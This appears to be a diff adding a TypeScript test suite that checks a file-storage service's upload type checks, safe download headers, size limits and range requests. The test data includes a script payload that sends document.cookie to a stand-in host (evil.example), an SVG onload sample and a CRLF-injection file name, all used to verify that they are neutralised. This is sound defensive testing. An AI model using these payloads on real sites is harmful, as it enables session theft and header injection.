@@ -1,0 +1,168 @@
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { startTestStorage, type TestStorage } from '../../../test/storage.ts';
+
+let server: TestStorage;
+let ada: Awaited<ReturnType<TestStorage['learner']>>;
+
+beforeAll(async () => {
+  server = await startTestStorage();
+  ada = await server.learner();
+});
+afterAll(() => server.stop());
+
+const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
+const html = '<script>fetch("//evil.example?" + document.cookie)</script>';
+
+const keyed = (token = ada.token) => ({
+  apikey: server.secrets.publishableKey,
+  authorization: `Bearer ${token}`,
+});
+
+const ask = (path: string, init: RequestInit = {}) => fetch(`${server.url}${path}`, init);
+
+describe('content', () => {
+  it('is not believed: markup that calls itself a picture is kept out of a picture bucket', async () => {
+    const files = (await server.storedFiles()).length;
+    const fake = new Blob([html], { type: 'image/png' });
+    const { error } = await ada.storage.from('scans').upload(`${ada.id}/fake.png`, fake);
+    expect(error).toMatchObject({ status: 415, statusCode: '415' });
+    expect(await server.storedFiles()).toHaveLength(files);
+    const real = await ada.storage
+      .from('scans')
+      .upload(`${ada.id}/real.png`, png, { contentType: 'image/png' });
+    expect(real.error).toBeNull();
+  });
+
+  it('is only shown by the browser when it is a picture or a PDF', async () => {
+    const posters = server.service.from('posters');
+    const files = [
+      ['real.png', png, 'image/png', 'inline', 'image/png'],
+      ['doc.pdf', Buffer.from('%PDF-1.7 …'), 'application/pdf', 'inline', 'application/pdf'],
+      ['fake.png', html, 'image/png', 'attachment', 'application/octet-stream'],
+      ['page.html', html, 'text/html', 'attachment', 'text/plain;charset=UTF-8'],
+      [
+        'drawing.svg',
+        '<svg onload="x()"/>',
+        'image/svg+xml',
+        'attachment',
+        'text/plain;charset=UTF-8',
+      ],
+      ['code.js', 'x()', 'text/javascript', 'attachment', 'text/plain;charset=UTF-8'],
+    ] as const;
+    for (const [name, body, contentType, disposition, sentType] of files) {
+      expect((await posters.upload(name, body, { contentType })).error).toBeNull();
+      const { headers } = await ask(`/object/public/posters/${name}`);
+      expect(headers.get('content-disposition'), name).toMatch(new RegExp(`^${disposition};`));
+      expect(headers.get('content-type')).toBe(sentType);
+      expect(headers.get('x-content-type-options')).toBe('nosniff');
+    }
+  });
+
+  it('is refused with 415 when the bucket does not take its type', async () => {
+    const scans = ada.storage.from('scans');
+    const raw = await scans.upload(`${ada.id}/a.txt`, 'text', { contentType: 'text/plain' });
+    expect(raw.error).toMatchObject({
+      statusCode: '415',
+      message: 'mime type text/plain is not supported',
+    });
+    const form = await scans.upload(`${ada.id}/a.txt`, new Blob(['x'], { type: 'text/html' }));
+    expect(form.error).toMatchObject({ statusCode: '415' });
+  });
+
+  it('carries a harmless file name, whatever was asked for', async () => {
+    const response = await ask('/object/public/posters/real.png?download=a"%0d%0ab;x=é.html');
+    expect(response.headers.get('content-disposition')).toBe(
+      "attachment; filename*=UTF-8''a%22__b%3Bx%3D%C3%A9.html",
+    );
+    const { data } = server.visitor.from('posters').getPublicUrl('real.png', { download: true });
+    const plain = await fetch(data.publicUrl);
+    expect(plain.headers.get('content-disposition')).toBe("attachment; filename*=UTF-8''real.png");
+  });
+});
+
+describe('size', () => {
+  it('is refused with 413 beyond the bucket’s limit, announced or not', async () => {
+    const scans = ada.storage.from('scans');
+    const files = (await server.storedFiles()).length;
+    const big = Buffer.concat([png, Buffer.alloc(2_000)]);
+    const tooLarge = { status: 413, statusCode: '413' };
+    const contentType = 'image/png';
+    expect((await scans.upload(`${ada.id}/b.png`, big, { contentType })).error).toMatchObject(
+      tooLarge,
+    );
+    const blob = new Blob([big], { type: contentType });
+    expect((await scans.upload(`${ada.id}/b.png`, blob)).error).toMatchObject(tooLarge);
+    const stream = blob.stream();
+    expect((await scans.upload(`${ada.id}/b.png`, stream, { contentType })).error).toMatchObject(
+      tooLarge,
+    );
+    expect(await server.storedFiles()).toHaveLength(files);
+  });
+
+  it('never exceeds 50 MB, and nothing of a larger upload is kept', async () => {
+    const files = (await server.storedFiles()).length;
+    const piece = new Uint8Array(1024 * 1024);
+    let sent = 0;
+    const endless = new ReadableStream<Uint8Array>({
+      pull(controller) {
+        sent += 1;
+        if (sent > 60) controller.close();
+        else controller.enqueue(piece);
+      },
+    });
+    const { error } = await ada.storage.from('homework').upload(`${ada.id}/huge.bin`, endless);
+    expect(error).not.toBeNull();
+    await vi.waitFor(async () => expect(await server.storedFiles()).toHaveLength(files));
+  });
+});
+
+describe('reading', () => {
+  beforeAll(async () => {
+    await server.service
+      .from('posters')
+      .upload('digits.txt', '0123456789', { cacheControl: '300' });
+    await ada.storage.from('homework').upload(`${ada.id}/digits.txt`, '0123456789');
+  });
+
+  it('of public buckets needs no key, of private ones the public path leads nowhere', async () => {
+    const open = await ask('/object/public/posters/digits.txt');
+    expect(open.headers.get('cache-control')).toBe('public, max-age=300');
+    expect(await open.text()).toBe('0123456789');
+    const closed = await ask(`/object/public/homework/${ada.id}/digits.txt`);
+    expect(closed.status).toBe(400);
+    expect(await closed.json()).toMatchObject({ statusCode: '404', message: 'Bucket not found' });
+    expect((await ask(`/object/info/public/homework/${ada.id}/digits.txt`)).status).toBe(400);
+    expect((await server.visitor.from('posters').download('digits.txt')).error).toBeNull();
+  });
+
+  it('gives parts of a file', async () => {
+    const part = (range: string) =>
+      ask('/object/public/posters/digits.txt', { headers: { range } });
+    const middle = await part('bytes=2-4');
+    expect([middle.status, await middle.text()]).toEqual([206, '234']);
+    expect(middle.headers.get('content-range')).toBe('bytes 2-4/10');
+    expect(await (await part('bytes=-2')).text()).toBe('89');
+    expect(await (await part('bytes=0-1,4-5')).text()).toBe('0123456789');
+    expect((await part('bytes=10-')).status).toBe(416);
+  });
+
+  it('saves the bytes when the copy is still good, and never lets another learner reuse it', async () => {
+    const path = `/object/authenticated/homework/${ada.id}/digits.txt`;
+    const first = await ask(path, { headers: keyed() });
+    await first.text();
+    expect(first.headers.get('cache-control')).toBe('private, no-cache');
+    expect(first.headers.get('vary')).toContain('Authorization');
+    const etag = first.headers.get('etag') ?? '';
+    const second = await ask(path, { headers: { ...keyed(), 'if-none-match': etag } });
+    expect([second.status, await second.text()]).toEqual([304, '']);
+  });
+
+  it('answers HEAD like GET without the bytes', async () => {
+    const head = await ask('/object/public/posters/digits.txt', { method: 'HEAD' });
+    expect([head.status, head.headers.get('content-length'), await head.text()]).toEqual([
+      200,
+      '10',
+      '',
+    ]);
+  });
+});
